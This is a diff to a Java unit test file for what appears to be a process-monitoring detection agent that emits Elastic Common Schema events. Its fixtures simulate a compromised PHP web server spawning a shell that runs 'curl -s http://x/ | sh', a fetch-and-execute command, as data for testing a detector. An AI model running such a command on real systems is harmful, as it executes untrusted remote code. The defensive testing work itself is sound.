@@ -2,6 +2,7 @@ package io.spawnwatch.ecs;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import com.fasterxml.jackson.core.JsonFactory;
@@ -14,6 +15,7 @@ import io.spawnwatch.enrich.EnrichedEvent;
 import io.spawnwatch.enrich.ProcessTable;
 import io.spawnwatch.enrich.UserNames;
 import io.spawnwatch.event.TestRecords;
+import io.spawnwatch.rules.RuleMetadata;
 import java.io.StringWriter;
 import java.lang.foreign.MemorySegment;
 import java.nio.file.Files;
@@ -28,7 +30,12 @@ class EcsEventWriterTest {
     @TempDir
     Path dir;
     private EnrichedEvent event;
-    private final EcsEventWriter writer = new EcsEventWriter("web1");
+    static final HostIdentity HOST = new HostIdentity("4c4c4544004e3510804bb4c04f4e3232", "web1", "Debian GNU/Linux",
+            "12 (bookworm)", "debian", "debian", "Debian GNU/Linux 12 (bookworm)", "6.18.0-test", "x86_64",
+            "6f0c1cbe-3c58-4b0e-9d0b-1b8d7f0d2a11");
+    static final AgentIdentity AGENT = new AgentIdentity("0b3c2f5e-8a8e-4f7e-b3f1-6c1d2b0f9a77", "spawnwatch", "0.1.0",
+            "web1", true);
+    private final EcsEventWriter writer = new EcsEventWriter(HOST, AGENT);
 
     @BeforeEach
     void setUp() throws Exception {
@@ -55,6 +62,95 @@ class EcsEventWriterTest {
         return JSON.readTree(out.toString());
     }
 
+    private JsonNode alert(RuleMetadata rule, long repeats) throws Exception {
+        StringWriter out = new StringWriter();
+        try (JsonGenerator g = new JsonFactory().createGenerator(out)) {
+            writer.writeAlert(g, event, rule, repeats);
+        }
+        return JSON.readTree(out.toString());
+    }
+
+    @Test
+    void shouldGiveEachProcessOneEntityIdThatItsChildrenCarryAsTheirParents() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "curl -s http://x/ | sh"));
+        JsonNode shell = document();
+        wrap(TestRecords.exec(301, 300, "curl", "sh", "/usr/bin/curl", "/var/www/html", "/usr/bin/dash",
+                33, 100, 3, "curl", "-s", "http://x/"));
+        JsonNode curl = document();
+        String shellId = shell.at("/process/entity_id").asText();
+        assertEquals(20, shellId.length(), shellId);
+        assertEquals(shellId, curl.at("/process/parent/entity_id").asText());
+        assertNotEquals(shellId, curl.at("/process/entity_id").asText());
+        assertEquals(shell.at("/process/start").asText(), curl.at("/process/parent/start").asText());
+        // The same pid and start on another host (or after a reboot) is another process.
+        HostIdentity other = new HostIdentity("ffffffffffffffffffffffffffffffff", "web2", null, null, null, null, null,
+                null, "x86_64", HOST.bootId());
+        assertNotEquals(shellId, new EntityIds(other).of(300, TestRecords.startBootNanos(300)));
+        assertEquals(shellId, new EntityIds(HOST).of(300, TestRecords.startBootNanos(300)));
+    }
+
+    @Test
+    void shouldLeaveTheParentEntityIdOutWhenItsStartIsUnknown() throws Exception {
+        // Parent 777 was never seen exec: its start time is unknown, so no id that could disagree with its own.
+        wrap(TestRecords.exec(300, 777, "sh", "nginx", "/usr/bin/dash", "/var/www", "/usr/sbin/nginx",
+                33, 777, 1, "sh", "-c", "id"));
+        JsonNode d = document();
+        assertTrue(d.at("/process/entity_id").isTextual());
+        assertTrue(d.at("/process/parent/entity_id").isMissingNode(), d.toString());
+    }
+
+    @Test
+    void shouldWriteHostAgentAndEcsVersionAndAnIdPerDocument() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "id"));
+        JsonNode a = document();
+        JsonNode b = document();
+        assertEquals("9.3.0", a.at("/ecs/version").asText());
+        assertEquals("4c4c4544004e3510804bb4c04f4e3232", a.at("/host/id").asText());
+        assertEquals("linux", a.at("/host/os/type").asText());
+        assertEquals("debian", a.at("/host/os/family").asText());
+        assertEquals("debian", a.at("/host/os/platform").asText());
+        assertEquals("Debian GNU/Linux", a.at("/host/os/name").asText());
+        assertEquals("12 (bookworm)", a.at("/host/os/version").asText());
+        assertEquals("6.18.0-test", a.at("/host/os/kernel").asText());
+        assertEquals("x86_64", a.at("/host/architecture").asText());
+        assertEquals(AGENT.id(), a.at("/agent/id").asText());
+        assertEquals("spawnwatch", a.at("/agent/type").asText());
+        assertEquals("0.1.0", a.at("/agent/version").asText());
+        assertEquals("web1", a.at("/agent/name").asText());
+        assertNotEquals(a.at("/event/id").asText(), b.at("/event/id").asText());
+        assertEquals(32, a.at("/event/id").asText().length());
+        assertTrue(java.time.Instant.parse(a.at("/event/created").asText()).isAfter(java.time.Instant.now().minusSeconds(60)));
+    }
+
+    @Test
+    void shouldTellTheEffectiveUserFromTheRealOne() throws Exception {
+        MemorySegment r = TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html",
+                "/usr/sbin/php-fpm8.2", 33, 100, 2, "sh", "-c", "id");
+        r.set(java.lang.foreign.ValueLayout.JAVA_INT_UNALIGNED,
+                io.spawnwatch.event.RecordDescriptor.PROCESS_OFFSET + io.spawnwatch.event.ProcessDescriptor.EUID_OFFSET, 0);
+        wrap(r); // a setuid-root program run by www-data
+        JsonNode d = document();
+        assertEquals("0", d.at("/process/user/id").asText());
+        assertEquals("root", d.at("/process/user/name").asText());
+        assertEquals("0", d.at("/user/id").asText());
+        assertEquals("33", d.at("/process/real_user/id").asText());
+        assertEquals("www-data", d.at("/process/real_user/name").asText());
+    }
+
+    @Test
+    void shouldGiveAnAlertAOneLineMessage() throws Exception {
+        wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
+                33, 100, 2, "sh", "-c", "id\nuname -a"));
+        RuleMetadata rule = io.spawnwatch.rules.Rules.compile(io.spawnwatch.rules.Rules.rule("process_creation",
+                "    sel:\n        ProcessName: sh\n    condition: sel\n")).metadata();
+        JsonNode d = alert(rule, 3);
+        assertEquals("t: php-fpm8.2 > php-fpm8.2 > sh ran 'sh -c id uname -a' as www-data (pid 300) on web1;"
+                + " 3 repeats suppressed before", d.at("/message").asText());
+        assertEquals("alert", d.at("/event/kind").asText());
+    }
+
     @Test
     void shouldWriteAnExecAsAnEcsProcessStartWithItsLineage() throws Exception {
         wrap(TestRecords.exec(300, 200, "sh", "php-fpm8.2", "/usr/bin/dash", "/var/www/html", "/usr/sbin/php-fpm8.2",
@@ -75,6 +171,8 @@ class EcsEventWriterTest {
         assertEquals(200, d.at("/process/parent/pid").asInt());
         assertEquals("php-fpm8.2", d.at("/process/parent/name").asText());
         assertEquals("php-fpm: pool www", d.at("/process/parent/command_line").asText());
+        assertEquals("[\"php-fpm: pool www\"]", d.at("/process/parent/args").toString());
+        assertEquals(1, d.at("/process/parent/args_count").asInt());
         assertEquals("33", d.at("/user/id").asText());
         assertEquals("www-data", d.at("/user/name").asText());
         assertEquals(2, d.at("/spawnwatch/lineage/depth").asInt());
